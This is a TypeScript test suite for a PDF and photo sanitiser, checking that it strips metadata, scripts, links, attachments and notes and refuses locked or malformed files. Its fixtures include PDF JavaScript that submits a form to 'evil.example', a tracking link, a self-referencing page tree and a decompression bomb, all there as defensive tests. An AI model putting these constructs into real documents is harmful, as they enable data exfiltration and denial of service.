import { deflateSync } from 'node:zlib'
import fc from 'fast-check'
import PDFDocument from 'pdfkit'
import sharp from 'sharp'
import { describe, expect, test } from 'vitest'
import { letterPdf, pdfOf, pdfStream } from '../testing/pdf.ts'
import { cleanPdf } from './clean.ts'
import { cleanJpeg } from './jpeg.ts'

const clean = async (bytes: Uint8Array) => Buffer.from((await cleanPdf(bytes, 'document')).bytes).toString('latin1')

/** A page with everything on it and around it that is not what it shows. */
const busy = pdfOf(
  [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\("opened"\\)) >> /Metadata 8 0 R
      /Names << /EmbeddedFiles << /Names [(list.xlsx) 9 0 R] >> /JavaScript << /Names [(run) 10 0 R] >> >>
      /AcroForm << /Fields [7 0 R] /XFA (xfa-form) >> /Outlines 8 0 R /AA << /WC 10 0 R >> /Lang (it) >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 595 842] /Resources << /Font << /A 4 0 R >> /XObject << /F 12 0 R >> >> >>',
    `<< /Type /Page /Parent 2 0 R /Contents 5 0 R /AA << /O 10 0 R >> /PieceInfo << /Adobe (private-data) >> /Thumb 8 0 R
      /LastModified (D:20240102) /Annots [6 0 R 7 0 R 11 0 R << /Type /Annot /Subtype /Text /Contents (note-of-a-nurse) /Rect [0 0 9 9] >>] >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    pdfStream('BT /A 20 Tf 72 760 Td (Operated and well) Tj ET'),
    '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://tracker.example/opened) >> >>',
    '<< /Type /Annot /Subtype /Widget /FT /Tx /T (patient) /V (typed-value) /Rect [100 100 300 140] /AP << /N 13 0 R >> >>',
    pdfStream('<x:xmpmeta>xmp-of-the-clinic</x:xmpmeta>', '/Type /Metadata /Subtype /XML'),
    '<< /Type /Filespec /F (list.xlsx) /EF << /F 14 0 R >> >>',
    '<< /S /JavaScript /JS (this.submitForm\\("https://evil.example"\\)) >>',
    '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 9 0 R >>',
    pdfStream(
      '0 0 10 10 re f',
      '/Type /XObject /Subtype /Form /BBox [0 0 10 10] /PTEX.FileName (/home/anna/scan.pdf) /Metadata 8 0 R',
    ),
    pdfStream('BT (drawn-in-field) Tj ET', '/Type /XObject /Subtype /Form /BBox [0 0 100 20]'),
    pdfStream('attached-spreadsheet', '/Type /EmbeddedFile'),
    '<< /Author (Anna Bianchi) /Producer (Word 365) /CreationDate (D:20240101) >>',
  ],
  '/Info 15 0 R /ID [<0102> <0304>]',
)

describe('a PDF is made anew', () => {
  test('with what its pages show, and without who made it, scripts, links, notes and attachments', async () => {
    const made = await clean(busy)
    for (const kept of ['(Operated and well)', '(drawn-in-field)', '/Helvetica', '0 0 10 10 re f', '595 842'])
      expect(made).toContain(kept)
    const gone = [
      'Anna',
      'anna',
      'Word 365',
      'CreationDate',
      'xmp',
      'JavaScript',
      '/JS',
      '/AA',
      'OpenAction',
      'EmbeddedFile',
    ]
    gone.push('attached-spreadsheet', 'list.xlsx', 'tracker', 'evil', 'note-of-a-nurse', 'private-data', 'PTEX', 'XFA')
    gone.push('/Annots', 'AcroForm', 'typed-value', '/ID', '/Info', 'LastModified', '/Outlines', '/Metadata')
    for (const word of gone) expect(made, word).not.toContain(word)
    // A filled-in field stands where it stood: 100 × 20 units of its own on 200 × 40 of the page.
    expect(made).toContain('q 2 0 0 2 100 100 cm /Shown1 Do Q')
  })

  test('an earlier version that was saved over is gone', async () => {
    const first = letterPdf('The child is called Chen Xiaoming')
    const second = Buffer.from(`5 0 obj\n${pdfStream('BT (Redacted) Tj ET')}\nendobj\n`, 'latin1')
    const made = await clean(Buffer.concat([first, second]))
    expect(made).toContain('(Redacted)')
    expect(made).not.toContain('Xiaoming')
  })

  test('and made anew again it says no less and no more', async () => {
    const once = await clean(letterPdf())
    expect(await clean(Buffer.from(once, 'latin1'))).toBe(once)
  })

  test('layers that were hidden stay hidden, and lose their names', async () => {
    const made = await clean(
      pdfOf([
        '<< /Type /Catalog /Pages 2 0 R /OCProperties << /OCGs [5 0 R] /D << /OFF [5 0 R] /Order [5 0 R] /Creator (Anna) >> >> >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 9 9] >>',
        '<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << /Properties << /A 5 0 R >> >> >>',
        pdfStream('/OC /A BDC 0 0 1 1 re f EMC'),
        '<< /Type /OCG /Name (Ward of Anna) /Usage << /CreatorInfo << /Creator (Anna) >> >> >>',
      ]),
    )
    const layer = /\/OFF \[ (\d+ 0 R) \]/.exec(made)?.[1]
    expect(layer).toBeDefined()
    expect(made).toContain(`/A ${layer}`)
    expect(made).not.toContain('Anna')
  })

  test('photographs in it lose place and camera, packed once more or not', async () => {
    const photo = await sharp({ create: { width: 8, height: 8, channels: 3, background: 'red' } })
      .withExif({ IFD0: { Make: 'A camera of Anna' } })
      .jpeg()
      .toBuffer()
    const entries = '/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceRGB /BitsPerComponent 8'
    const made = await clean(
      pdfOf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 9 9] >>',
        '<< /Type /Page /Parent 2 0 R /Resources << /XObject << /One 4 0 R /Two 5 0 R >> >> >>',
        pdfStream(photo.toString('latin1'), `${entries} /Filter /DCTDecode`),
        pdfStream(deflateSync(photo).toString('latin1'), `${entries} /Filter [/FlateDecode /DCTDecode]`),
      ]),
    )
    expect(photo.toString('latin1')).toContain('A camera of Anna')
    expect(made).not.toContain('A camera of Anna')
    expect(made).not.toContain('FlateDecode')
    expect(made.match(/\xff\xd8\xff/g)).toHaveLength(2)
  })

  test('a signature is told, for what is made anew bears none', async () => {
    const signed = pdfOf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>',
      '<< /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 1 2 3] /Contents <0102> >>',
    ])
    expect(await cleanPdf(signed, 'document')).toMatchObject({ isSigned: true })
    expect(await cleanPdf(letterPdf(), 'document')).toMatchObject({ isSigned: false })
  })
})

describe('a PDF that is locked', () => {
  const write = (options: PDFKit.PDFDocumentOptions) =>
    new Promise<Buffer>((resolve) => {
      const parts: Buffer[] = []
      const document = new PDFDocument({ compress: false, info: { Author: 'Anna' }, ...options })
      document.on('data', (part: Buffer) => parts.push(part)).on('end', () => resolve(Buffer.concat(parts)))
      document.rect(11, 22, 33, 44).fill()
      document.end()
    })

  test.each(['1.4', '1.7ext3'] as const)('against printing alone is opened (%s)', async (pdfVersion) => {
    const made = await clean(await write({ pdfVersion, ownerPassword: 'owner', permissions: {} }))
    expect(made).toContain('11 22 33 44 re')
    expect(made).not.toContain('/Encrypt')
  })

  test.each(['1.4', '1.7ext3'] as const)('with a password is refused (%s)', async (pdfVersion) => {
    const locked = await write({ pdfVersion, userPassword: 'secret', ownerPassword: 'owner' })
    await expect(cleanPdf(locked, 'document')).rejects.toMatchObject({ code: 'files.pdf-locked', field: 'document' })
  })
})

describe('a PDF that cannot be made anew is refused', () => {
  const refused = (bytes: Uint8Array) => expect(cleanPdf(bytes, 'document')).rejects
  const pages = '<< /Type /Catalog /Pages 2 0 R >>'

  test.each([
    ['nothing of it is there', Buffer.from('%PDF-1.4\n%%EOF\n')],
    ['without pages', pdfOf([pages, '<< /Type /Pages /Kids [] /Count 0 >>'])],
    ['cut off', letterPdf().subarray(0, 80)],
  ])('%s', async (_name, bytes) => {
    await refused(bytes).toMatchObject({ code: 'files.pdf-unreadable' })
  })

  test('pages that lead back to themselves, and a page taken a million times', async () => {
    await refused(pdfOf([pages, '<< /Type /Pages /Kids [2 0 R] /Count 1 >>'])).toMatchObject({
      code: 'files.pdf-too-much',
    })
    const branch = (child: number) => `<< /Type /Pages /Kids [${`${child} 0 R `.repeat(10)}] /Count 1 >>`
    const many = pdfOf([pages, branch(3), branch(4), branch(5), branch(6), branch(7), branch(8), '<< /Type /Page >>'])
    await refused(many).toMatchObject({ code: 'files.pdf-too-much' })
  })

  test('a small file that unpacks to a quarter of a gigabyte', async () => {
    const packed = deflateSync(Buffer.alloc(256 * 1024 * 1024, 32)).toString('latin1')
    const twice = deflateSync(Buffer.from(packed, 'latin1')).toString('latin1')
    const bomb = pdfStream(twice, '/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]')
    await refused(pdfOf([pages, '<< /Kids [3 0 R] >>', '<< /Type /Page >>', bomb])).toMatchObject({
      code: 'files.pdf-too-much',
    })
  })

  test('five million numbers, without taking the server along', async () => {
    const numbers = Buffer.alloc(10 * 1024 * 1024, '1 ').toString('latin1')
    await refused(pdfOf([pages, '<< /Kids [3 0 R] >>', '<< /Type /Page >>', `[${numbers}]`])).toMatchObject({
      code: 'files.pdf-too-much',
    })
    await expect(cleanPdf(letterPdf(), 'document')).resolves.toBeDefined()
  })
})

test('a photograph keeps every point, whatever was remarked, and a broken one is left as it is', async () => {
  const photo = await sharp({ create: { width: 4, height: 4, channels: 3, background: 'blue' } })
    .withMetadata()
    .jpeg()
    .toBuffer()
  const points = (bytes: Uint8Array) => sharp(bytes).raw().toBuffer()
  expect(await points(cleanJpeg(photo))).toEqual(await points(photo))
  fc.assert(
    fc.property(fc.uint8Array({ maxLength: 60 }), (tail) => {
      const bytes = Buffer.concat([Buffer.from([0xff, 0xd8]), tail])
      const once = cleanJpeg(bytes)
      expect(once.length).toBeLessThanOrEqual(bytes.length)
      expect(cleanJpeg(once)).toEqual(once)
    }),
  )
})
